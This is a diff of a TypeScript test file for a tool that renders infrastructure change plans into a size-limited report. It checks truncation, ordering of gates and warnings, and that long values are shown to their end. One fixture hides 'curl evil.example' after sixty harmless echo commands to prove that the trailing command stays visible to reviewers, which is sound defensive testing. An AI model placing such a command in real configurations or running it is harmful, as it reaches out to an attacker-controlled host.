@@ -11,14 +11,9 @@ import { planned, table, urn } from "./planned";
 
 const part = (one: ReturnType<typeof show.changesPart>) => composed([], [], [one]);
 
-test("what is approved is shown in full: the end of a long value, and of a list what differs", () => {
+test("what is approved is shown in full, to the end of a long value", () => {
   const cmdline = `${"echo 1; ".repeat(60)}curl evil.example`;
   expect(table(planned({ urn: urn("a"), after: { cmdline } }))).toContain("curl evil.example");
-  const names = Array.from({ length: 40 }, (_, index) => `internal-library-${index}`);
-  const [before, after] = [{ packages: [...names, "x==6.6.6"] }, { packages: [...names, "x==9.9.9"] }];
-  expect(table(planned({ urn: urn("a"), op: "update", before, after }))).toContain(
-    "`packages`: − `x==6.6.6` + `x==9.9.9` |",
-  );
 });
 
 test("a rule that cannot judge comes before advice, and no line has a path of the installed package", () => {
@@ -118,32 +113,24 @@ describe("what a removal leaves behind", () => {
 });
 
 describe("what does not fit", () => {
-  const gates = gateLines(["mandatory whole-internet: the gate"]);
-  const changes = Array.from({ length: 5000 }, (_, index) =>
-    planned({ urn: urn(`address-${index}`), after: { ipCidr: "203.0.113.7" } }),
-  );
-  const message = `warning ${"x".repeat(80)}`;
-  const many = changes.map((_, index) => ({ severity: "warning", message: `${message} ${index}` }));
-
-  test.each([
-    [
-      "warnings push nothing out: gates come first, warnings go first",
-      changes.slice(0, 1),
-      /… and \d+ more; the job's log has the rest\.\n$/,
-    ],
-    [
-      "changes are counted in full, and cut before a gate is",
-      changes,
-      /Warnings of the program: 5000\*\*: 5000 left out/,
-    ],
-  ])("5000 %s", (_, shown, end) => {
-    const report = composed([show.headlineOf(shown)], gates, [show.changesPart(shown), show.warningsPart(many)]);
+  test("changes are counted in full, and cut before a gate is; warnings go first", () => {
+    const changes = Array.from({ length: 5000 }, (_, index) =>
+      planned({ urn: urn(`address-${index}`), after: { ipCidr: "203.0.113.7" } }),
+    );
+    const warnings = changes.map((_, index) => ({
+      severity: "warning",
+      message: `warning ${"x".repeat(80)} ${index}`,
+    }));
+    const gates = gateLines(["mandatory whole-internet: the gate"]);
+    const report = composed([show.headlineOf(changes)], gates, [
+      show.changesPart(changes),
+      show.warningsPart(warnings),
+    ]);
     expect(report.length).toBeLessThan(65_536);
-    const texts = [`**${shown.length} to create**`, "the gate", "`address-0`", "Warnings of the program"];
+    const texts = ["**5000 to create**", "the gate", "`address-0`", "Warnings of the program: 5000**: 5000 left out"];
     const places = texts.map((text) => report.indexOf(text));
     expect(places).toEqual([...places].sort((a, b) => a - b));
     expect(places).not.toContain(-1);
-    expect(report).toMatch(end);
   });
 
   test("the output of a run is cut, and cannot end its fence", () => {
